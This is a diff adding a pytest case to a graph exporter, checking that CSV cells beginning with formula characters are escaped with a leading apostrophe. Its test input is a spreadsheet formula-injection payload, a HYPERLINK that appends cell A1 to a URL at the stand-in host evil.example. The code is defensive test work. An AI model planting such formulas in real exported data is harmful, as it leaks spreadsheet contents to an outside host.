@@ -56,6 +56,17 @@ def test_csv_keeps_hostile_strings_exactly(tmp_path):
         assert {row["name"] for row in csv.DictReader(handle)} == {HOSTILE}
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_look_like_formulas_are_made_inert(tmp_path, start):
+    formula = start + 'HYPERLINK("http://evil.example/?"&A1,"点击")'
+    nodes_path, edges_path = write_csv(hostile_graph(formula, formula), tmp_path / "f.csv")
+    with nodes_path.open(encoding="utf-8", newline="") as handle:
+        names = {row["name"] for row in csv.DictReader(handle)}
+    with edges_path.open(encoding="utf-8", newline="") as handle:
+        titles = {row["title"] for row in csv.DictReader(handle)}
+    assert names == titles == {"'" + formula}
+
+
 @pytest.mark.parametrize("writer", [write_graphml, write_gexf, write_csv])
 def test_same_graph_gives_same_bytes(tmp_path, writer):
     first = [p.read_bytes() for p in writer(sample_graph(), tmp_path / "a" / "g.out")]
